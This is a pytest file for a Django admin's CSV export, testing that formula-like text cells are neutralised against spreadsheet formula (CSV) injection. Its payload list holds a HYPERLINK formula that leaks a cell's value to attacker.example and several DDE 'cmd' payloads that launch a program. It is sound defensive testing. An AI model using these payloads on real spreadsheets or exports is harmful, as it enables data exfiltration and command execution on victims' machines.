"""The admin's CSV export neutralises spreadsheet formulas (OWASP "CSV Injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken for
a formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK(...)`` sends a click elsewhere,
``=cmd|...`` runs a program on old Excel). The export writes such cells with a leading ``'``:
shown as text, never evaluated. Numbers are not text: a negative number stays a number.
"""

import csv
import io

import pytest
from django.urls import reverse

from auths.models import Auth
from grievances.models import Grievance
from tests.support.factories import StaffFactory, make_record
from vbaproject.admin.actions import csv_value
from vbaproject.admin.sites import site_name

pytestmark = pytest.mark.django_db(databases=["default", "demo", "other"])

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export(client, model, records):
    url = reverse(
        f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist", current_app=site_name("demo")
    )
    response = client.post(
        url, {"action": "export_csv", "_selected_action": [str(r.pk) for r in records], "index": "0"}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def superuser(client):
    client.force_login(StaffFactory(username="boss", is_superuser=True))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_text_field_is_exported_as_text(client, superuser, payload):
    grievance = make_record(Grievance, "demo", issue=payload)
    (row,) = export(client, Grievance, [grievance])
    assert row["issue"] == "'" + payload


def test_plain_text_and_numbers_are_exported_as_they_are(client, superuser):
    grievance = make_record(Grievance, "demo", issue="Billed twice = wrong; call back +1 555 0100")
    auth = make_record(Auth, "demo", daily_Living=-3)
    assert export(client, Grievance, [grievance])[0]["issue"] == "Billed twice = wrong; call back +1 555 0100"
    assert export(client, Auth, [auth])[0]["daily_Living"] == "-3"


def test_csv_value():
    assert [csv_value(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert csv_value("a=1") == "a=1" and csv_value("") == "" and csv_value(None) == ""
    assert csv_value(-5) == "-5" and csv_value(True) == "true"
